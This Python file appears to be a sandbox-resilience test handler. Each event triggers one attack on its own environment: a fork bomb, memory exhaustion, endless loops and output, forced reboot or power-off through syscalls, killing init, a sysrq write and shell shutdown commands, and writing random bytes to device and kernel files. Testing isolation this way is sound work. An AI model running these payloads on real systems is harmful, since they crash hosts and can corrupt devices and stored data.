"""Attacks what it runs in, in the way the event asks for."""

import ctypes
import os
import signal
import stat

LINUX_REBOOT_MAGIC = (0xFEE1DEAD, 672274793)
RESTART, POWER_OFF = 0x1234567, 0x4321FEDC
SYS_REBOOT = 169


def handler(event, context):
    return ATTACKS[event["attack"]](event)


def nothing(event):
    return "served"


def endless_output(event):
    line = "x" * 1000
    while True:
        print(line)


def fork_bomb(event):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def memory_hog(event):
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 20))


def endless_loop(event):
    while True:
        pass


def shut_down(event):
    """Everything that could stop or take over the guest, and the error each ends in."""
    libc = ctypes.CDLL(None, use_errno=True)
    return {
        "powerOff": system_call(libc, POWER_OFF),
        "restart": system_call(libc, RESTART),
        "killInit": error(lambda: os.kill(1, signal.SIGKILL)),
        "sysrq": error(lambda: write("/proc/sysrq-trigger", b"o")),
        "program": os.system("poweroff -f || reboot -f || halt -f || shutdown now") != 0,
    }


def system_call(libc, command):
    result = libc.syscall(SYS_REBOOT, *LINUX_REBOOT_MAGIC, ctypes.c_uint(command), None)
    return os.strerror(ctypes.get_errno()) if result != 0 else None


def device_garbage(event):
    """Writes garbage to everything that looks like a device or a switch; returns what took it."""
    spoiled = set()
    for directory in ("/dev", "/sys", "/proc/sys", "/run", "/mnt"):
        for path, _, files in os.walk(directory):
            for name in files:
                if spoil(os.path.join(path, name)):
                    spoiled.add(os.path.realpath(os.path.join(path, name)))
    return sorted(spoiled)


def spoil(path):
    try:
        file = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        return False
    try:
        if stat.S_ISFIFO(os.fstat(file).st_mode):
            return False  # our own output
        os.write(file, os.urandom(65536))
        return True
    except PermissionError:
        return False
    except OSError:
        return True  # it took the garbage for a mistake, not for a trespass
    finally:
        os.close(file)


def write(path, data):
    with open(path, "wb") as file:
        file.write(data)


def error(call):
    try:
        call()
        return None
    except OSError as failure:
        return os.strerror(failure.errno)


ATTACKS = {
    function.__name__: function
    for function in (
        nothing, endless_output, fork_bomb, memory_hog, endless_loop, shut_down, device_garbage
    )
}
